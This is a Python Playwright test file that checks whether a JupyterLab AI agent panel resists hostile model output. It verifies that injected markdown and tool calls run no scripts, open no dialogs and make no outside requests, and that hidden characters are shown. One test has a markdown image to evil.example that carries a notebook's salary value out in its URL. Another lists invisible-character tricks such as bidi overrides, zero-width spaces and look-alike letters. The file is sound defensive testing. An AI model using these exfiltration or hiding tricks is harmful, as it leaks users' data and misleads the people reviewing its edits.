"""R14, R15, R17: whatever a model writes, the page asks nobody, runs nothing, and hides nothing."""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from hostile_markdown import BETWEEN, FOREIGN, answers, payloads
from playwright.sync_api import expect
from real_lab import choose_mode, choose_model, panel_state, say

MESSAGE = ".jp-Agent-message[data-role='assistant']"
ACTIVE = """
() => {
  const never = ('iframe frame object embed form link style script base meta video audio template ' +
    'image use svg img').split(' ');
  const ours = 'form.jp-Agent-answers, button svg, .jp-Agent-toolStatus svg';
  const said = '.jp-Agent-markdown, .jp-Agent-toolCard, .jp-Agent-question, .jp-Agent-approval';
  const isActive = ({ name, value }) =>
    name.startsWith('on') ||
    name.startsWith('data-command') ||
    name === 'srcset' ||
    (name === 'style' && /url|image|fixed/i.test(value)) ||
    (/^(href|src|xlink:href|action|formaction)$/.test(name) && !/^(https?:|mailto:|#)/.test(value));
  return [...document.querySelectorAll(`:is(${said}) *`)]
    .filter(item => (never.includes(item.localName) && !item.matches(ours)) ||
      [...item.attributes].some(isActive))
    .map(item => item.outerHTML.slice(0, 200));
}
"""


# A pointer that passes over everything, and a focus that does.
PASS_OVER = """
node => {
  for (const item of node.querySelectorAll('*')) {
    for (const kind of ['pointerenter', 'mouseover', 'mouseenter', 'focus']) {
      item.dispatchEvent(new MouseEvent(kind, { bubbles: true }));
    }
  }
}
"""


class Ledger:
    """Every request of the browser, every dialog, every page that opens."""

    def __init__(self, lab, context) -> None:
        self.own = urlsplit(lab.url).netloc
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        context.on("request", lambda request: self.note(request.url))
        context.on("dialog", self.note_dialog)

    def note(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob") and parts.netloc != self.own:
            self.foreign.append(url)

    def note_dialog(self, dialog) -> None:
        if dialog.type == "beforeunload":  # Lab's own, about the notebook
            dialog.accept()
            return
        self.dialogs.append(dialog.message)
        dialog.dismiss()


@pytest.fixture
def ledger(lab, context):
    return Ledger(lab, context)


def assert_harmless(page, ledger):
    assert ledger.foreign == [] and ledger.dialogs == []
    assert page.evaluate("window.pwned") is None
    assert page.locator("[data-commandlinker-command]:visible").count() == 0
    assert page.evaluate(ACTIVE) == []
    assert len(page.context.pages) == 1 and page.url.startswith("http://127.0.0.1")


PARTS = 4


@pytest.mark.parametrize("part", range(PARTS))
def test_hostile_answers_ask_for_nothing_and_run_nothing(part, bench, ledger):
    assert len(payloads()) >= 200
    page = bench(["1"]).open()
    choose_model(page, "script/model_hostile")
    for place, number in enumerate(range(part, len(answers()), PARTS)):
        say(page, str(number))
        answer = page.locator(MESSAGE).nth(place)
        expect(answer).to_contain_text("That was it.")
        panel_state(page, "idle")
        # Otherwise most of it was swallowed, and would prove nothing.
        expect(answer.locator("hr").nth(answers()[number].count(BETWEEN) // 2)).to_be_attached()
        answer.evaluate(PASS_OVER)
        assert_harmless(page, ledger)
    page.reload()
    expect(page.locator(MESSAGE).last).to_contain_text("That was it.")
    page.wait_for_timeout(1_000)
    assert_harmless(page, ledger)
    # That the ledger would have seen it.
    page.evaluate(f"fetch('http://{FOREIGN}/control').catch(() => 0)")
    assert ledger.foreign == [f"http://{FOREIGN}/control"]


def test_hostile_plans_questions_and_outputs_do_neither(bench, ledger):
    page = bench(["1"]).open()
    choose_mode(page, "auto")
    choose_model(page, "script/model_hostile_tools")
    say(page, "go")
    question = page.locator(".jp-Agent-question")
    question.wait_for()
    assert_harmless(page, ledger)
    for button in page.locator(".jp-Agent-expand").all():
        button.click()
    assert_harmless(page, ledger)
    question.locator(".jp-Agent-answers button").first.click()  # not one of a code block
    expect(page.locator(MESSAGE).last).to_contain_text("That was it.")
    assert_harmless(page, ledger)


@pytest.mark.R(14)
def test_an_edit_that_would_have_the_page_ask_elsewhere_asks_first(bench, lab, context):
    notebook = bench(["salary = 123456"])
    ledger = Ledger(lab, context)
    page = notebook.open()
    choose_mode(page, "edits")
    choose_model(page, "script/model_program")
    image = "![](http://evil.example/x.png?d=salary%3D123456)"
    op = {"op": "insert", "after": "end", "type": "markdown", "source": f"# Notes\n{image}"}
    call = ["edit_cells", {"ops": [op], "reason": "notes", "run": "none"}]
    say(page, json.dumps([[call]]))
    approval = page.locator(".jp-Agent-approval")
    expect(approval).to_contain_text("evil.example")
    approval.get_by_role("button", name="Deny").click()
    panel_state(page, "idle")
    assert [cell.source for cell in notebook.read().cells] == ["salary = 123456"]
    page.reload()
    page.locator(".jp-Notebook .jp-Cell").first.wait_for()
    assert ledger.foreign == []


INVISIBLE = {
    "an ANSI sequence": ("\x1b[8m", "⟨U+001B⟩[8m"),
    "a bidi override": ("\u202e", "⟨U+202E⟩"),
    "a bidi isolate": ("\u2066", "⟨U+2066⟩"),
    "a zero-width space": ("\u200b", "⟨U+200B⟩"),
    "a zero-width joiner": ("\u200d", "⟨U+200D⟩"),
    "a byte-order mark": ("\ufeff", "⟨U+FEFF⟩"),
    "tag characters": ("\U000e0072\U000e006d", "⟨U+E0072⟩⟨U+E006D⟩"),
    "a look-alike letter": ("р", "р⟨U+0440⟩"),
}


FOREIGN_IMAGE = "![](http://ev\u200bil.example/x.png)"


def assert_shown(part):
    """Look whether each of `INVISIBLE` is named in the text that is drawn, and takes up room."""
    drawn = part.inner_text()
    for name, (hidden, shown) in INVISIBLE.items():
        assert shown in drawn, name
        assert hidden == "р" or hidden not in part.evaluate("node => node.textContent"), name
    marks = part.locator(".jp-Agent-invisible")
    assert marks.count() >= len(INVISIBLE)
    for mark in marks.all():
        box = mark.bounding_box()
        assert box is not None and box["width"] > 20 and box["height"] > 5
    # Nothing turned the order of the letters around: the marks stand where they are in the text.
    assert part.evaluate("node => getComputedStyle(node).direction") == "ltr"


@pytest.mark.R(17, 21)
def test_what_cannot_be_seen_is_named_in_approvals_and_differences(bench):
    notebook = bench(["total = 1"])
    page = notebook.open()
    choose_model(page, "script/model_program")
    hidden = "\n".join(
        f"x{number} = 'a{text}b'  # {name}"
        for number, (name, (text, _)) in enumerate(INVISIBLE.items())
    )
    cell_id = notebook.read().cells[0].id
    change = {"op": "replace", "id": cell_id, "source": f"total = 1\n{hidden}"}
    note = {"op": "insert", "after": "end", "type": "markdown", "source": FOREIGN_IMAGE}
    calls = [
        ["read_cells", {"ids": [cell_id]}],
        ["edit_cells", {"ops": [change, note]}],
        ["run_code", {"code": hidden}],
    ]
    say(page, json.dumps([[call] for call in calls]))
    approval = page.locator(".jp-Agent-approval")
    difference = approval.locator(".jp-Agent-diff").filter(has_text="total")
    difference.wait_for()
    assert_shown(difference)
    # A host's name is a text of the model's, too.
    expect(approval.locator(".jp-Agent-previewLabel").first).to_contain_text("ev⟨U+200B⟩il.example")
    approval.locator("[data-action='allow-once']").click()
    code = approval.locator("[data-kind='code'] .jp-Agent-exact").filter(has_text="x7")
    code.wait_for()
    assert_shown(code)
    expect(approval.locator(".jp-Agent-warning")).to_have_count(2)
    approval.locator("[data-action='deny']").click()
    panel_state(page, "idle")
    # The difference can be read in the conversation afterwards.
    card = page.locator(".jp-Agent-toolCard[data-tool='edit_cells']")
    card.locator(".jp-Agent-expand").click()
    assert_shown(card.locator(".jp-Agent-diff").filter(has_text="total"))
